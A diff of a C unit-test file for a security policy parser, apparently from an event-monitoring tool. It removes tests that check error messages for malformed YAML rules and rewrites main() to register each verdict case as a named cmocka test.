-	expect_error(HDR "  - {id: a, events: [exec], action: kill}\n",
-		     "t.yaml:3:37: unknown action 'kill'");
-	expect_error(HDR "  - {id: a, events: [exec], action: alert, severity: huge}\n",
-		     "t.yaml:3:54: unknown severity 'huge'");
-	expect_error(HDR "  - {id: a, events: [exec], action: log}\n"
-			 "  - {id: a, events: [exec], action: log}\n",
-		     "t.yaml:4:10: duplicate rule id 'a' (first at t.yaml:3:5)");
-	expect_error(HDR "  - {id: 'a b', events: [exec], action: log}\n", "bad rule id 'a b'");
-	expect_error(HDR "  - {id: a, events: [exec], action: log, match: {proc.bogus: x}}\n",
-		     "t.yaml:3:50: unknown field 'proc.bogus'");
-	expect_error(HDR "  - {id: a, events: [exec], action: log, match: {file.path: /x}}\n",
-		     "t.yaml:3:50: field 'file.path' does not exist for events [exec]");
-	expect_error(HDR "  - {id: a, events: [exec], action: log, match: {proc.exe: {like: x}}}\n",
-		     "t.yaml:3:61: unknown operator 'like' for 'proc.exe'");
-	expect_error(HDR "  - {id: a, events: [exec], action: log, match: {proc.uid: {prefix: 1}}}\n",
-		     "unknown operator 'prefix' for 'proc.uid' (expected in, not, all)");
-	expect_error(HDR "  - {id: a, events: [exec], action: log, match: {proc.uid: abc}}\n",
-		     "t.yaml:3:60: bad number or range 'abc' for 'proc.uid'");
-	expect_error(HDR "  - {id: a, events: [exec], action: log, match: {proc.uid: 5-1}}\n",
-		     "bad number or range '5-1'");
-	expect_error(HDR "  - {id: a, events: [connect], action: log, match: {net.port: 2000-1000}}\n",
-		     "t.yaml:3:63: bad port or port range '2000-1000': port range runs backwards");
-	expect_error(HDR "  - {id: a, events: [connect], action: log, match: {net.port: 70000}}\n",
-		     "bad port or port range '70000'");
-	expect_error(HDR "  - {id: a, events: [connect], action: log, match: {net.addr: 10.0.0.1/8}}\n",
-		     "t.yaml:3:63: bad address or CIDR '10.0.0.1/8': host bits set");
-	expect_error(HDR "  - {id: a, events: [connect], action: log, match: {net.addr: 1.2.3}}\n",
-		     "bad address or CIDR '1.2.3': not an IP address");
-}
-
-static void test_errors2(void **state)
-{
-	expect_error(HDR "  - {id: a, events: [connect], action: log, match: {net.proto: sctp}}\n",
-		     "t.yaml:3:64: unknown value 'sctp' (expected tcp, udp)");
-	expect_error(HDR "  - {id: a, events: [exec], action: log, match: {proc.exe: $nope}}\n",
-		     "t.yaml:3:60: unknown list 'nope'");
-	expect_error(HDR "  - {id: a, events: [exec], action: log, match: {proc.exe: []}}\n",
-		     "empty list of values for 'proc.exe'");
-	expect_error(HDR "  - {id: a, events: [open], action: log, match: {file.write: maybe}}\n",
-		     "'file.write' takes true or false, not 'maybe'");
-	expect_error(HDR "  - {id: a, events: [exec], action: log, except: [{}]}\n",
-		     "an exception has no conditions");
-	expect_error(HDR "  - {id: a, events: [exec], action: log, except: {proc.uid: 0}}\n",
-		     "'except' must be a list of condition sets");
-	expect_error(HDR "  - {id: a, events: [exec], action: log, match: [x]}\n",
-		     "t.yaml:3:50: a 'match' entry must be a mapping, not a string");
-	expect_error(HDR "  - {id: a, events: [exec], action: log, match: x}\n",
-		     "t.yaml:3:49: 'match' must be a mapping, not a string");
-	expect_error(HDR "  - {id: a, events: [exec], action: log, match: {proc.exe: {in: x, is: y}}}\n",
-		     "operator 'in' given twice");
-	expect_error(HDR "  - {id: a, events: [exec], action: log, match: {proc.exe: "
-			 "{not: {not: {not: {not: {not: x}}}}}}}\n",
-		     "'not' nested too deeply");
-	expect_error("version: 1\nlists: {a: [x, $b]}\n", "t.yaml:2:16: list 'a' refers to another");
-	expect_error("version: 1\nlists: {a: x}\n", "t.yaml:2:12: a list must be a list");
-	expect_error("version: 1\ndefaults: {action: block}\n", "bad default action 'block'");
-	expect_error("version: 1\ndefaults: {dedup_window: 5}\n", "t.yaml:2:26: bad duration '5'");
-	expect_error("version: 1\ndefaults: {dedup_window: 2h}\n", "bad duration '2h'");
-	expect_error("version: 1\ndefaults: {dedup_window: 9999s}\n", "longer than 3600s");
-	expect_error("version: 1\ndefaults: {colour: red}\n", "unknown key 'colour' in 'defaults'");
-	expect_error("version: 1\nexclude: [{}]\n", "an exclusion has no conditions");
-	expect_error("version: 1\nrules: {a: 1}\n", "'rules' must be a list, not a mapping");
 }
 
 static void test_warnings(void **state)
@@ -1187,24 +1297,11 @@ static void test_shipped_policies(void **state)
 
 int main(void)
 {
-	const struct CMUnitTest tests[] = {
-		cmocka_unit_test_setup(test_string_ops, setup_tree),
-		cmocka_unit_test_setup(test_proc_fields, setup_tree),
-		cmocka_unit_test_setup(test_argv, setup_tree),
-		cmocka_unit_test_setup(test_negation_and_ancestry, setup_tree),
-		cmocka_unit_test_setup(test_ancestor_depth, setup_tree),
-		cmocka_unit_test_setup(test_match_any, setup_tree),
-		cmocka_unit_test_setup(test_lists, setup_tree),
-		cmocka_unit_test_setup(test_exceptions_order_defaults, setup_tree),
-		cmocka_unit_test_setup(test_allow_and_exclude, setup_tree),
-		cmocka_unit_test_setup(test_files, setup_tree),
-		cmocka_unit_test_setup(test_chmod, setup_tree),
-		cmocka_unit_test_setup(test_exec_context, setup_tree),
-		cmocka_unit_test_setup(test_net, setup_tree),
-		cmocka_unit_test_setup(test_events_field, setup_tree),
-		cmocka_unit_test_setup(test_block, setup_tree),
+	static const struct CMUnitTest others[] = {
 		cmocka_unit_test(test_errors),
-		cmocka_unit_test(test_errors2),
+		cmocka_unit_test(test_ptrace_dump),
+		cmocka_unit_test(test_field_table),
+		cmocka_unit_test_setup(test_block, setup_tree),
 		cmocka_unit_test(test_warnings),
 		cmocka_unit_test(test_all_errors_collected),
 		cmocka_unit_test(test_dump_roundtrip),
@@ -1213,6 +1310,14 @@ int main(void)
 		cmocka_unit_test(test_check_main),
 		cmocka_unit_test(test_shipped_policies),
 	};
+	enum { NV = sizeof(vcases) / sizeof(vcases[0]), NO = sizeof(others) / sizeof(others[0]) };
+	struct CMUnitTest tests[NV + NO];
 
-	return cmocka_run_group_tests(tests, NULL, NULL);
+	/* one test per verdict case, named after it, each with the default process tree */
+	for (size_t i = 0; i < NV; i++)
+		tests[i] = (struct CMUnitTest){ .name = vcases[i].name, .test_func = test_verdicts,
+						.setup_func = setup_tree,
+						.initial_state = (void *)&vcases[i] };
+	memcpy(tests + NV, others, sizeof(others));
+	return _cmocka_run_group_tests("test_policy", tests, NV + NO, NULL, NULL);
 }
